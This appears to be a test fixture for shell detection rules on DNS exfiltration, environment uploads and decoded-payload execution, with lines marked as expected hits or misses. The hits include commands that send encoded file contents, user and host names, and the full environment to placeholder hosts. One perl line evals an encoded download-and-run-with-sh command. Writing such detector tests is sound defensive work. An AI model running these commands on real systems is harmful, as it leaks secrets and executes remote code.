#!/bin/bash
# Inert samples for issue 16 (DNS exfiltration, environment piped to an upload). Never run.
T=$(base64 -w0 < notes.txt)
# ruleid: shell-dns-exfiltration
nslookup "$T.c.example.net"
# ruleid: shell-dns-exfiltration
dig +short "$(whoami).$(hostname).c.example.net"
# ok: shell-dns-exfiltration
for sub in www mail; do dig +short "$sub.example.com"; done
# ok: shell-dns-exfiltration
host "$1.example.com"
# ruleid: shell-env-exfiltration
printenv | base64 | curl -s -X POST --data-binary @- https://c.example.net/e
# ok: shell-env-exfiltration
printenv | grep -i proxy > proxy.txt
# ok: shell-env-exfiltration
printenv HOME | curl -d @- https://c.example.net/h
# ruleid: shell-decoded-payload-exec
perl -MMIME::Base64 -e 'eval(decode_base64("c3lzdGVtKCJjdXJsIC1zIGh0dHBzOi8vcGF5bG9hZC5leGFtcGxlLm5ldC94IHwgc2giKQ=="))'
# ok: shell-decoded-payload-exec
ruby -e 'puts [1, 2, 3].sum'
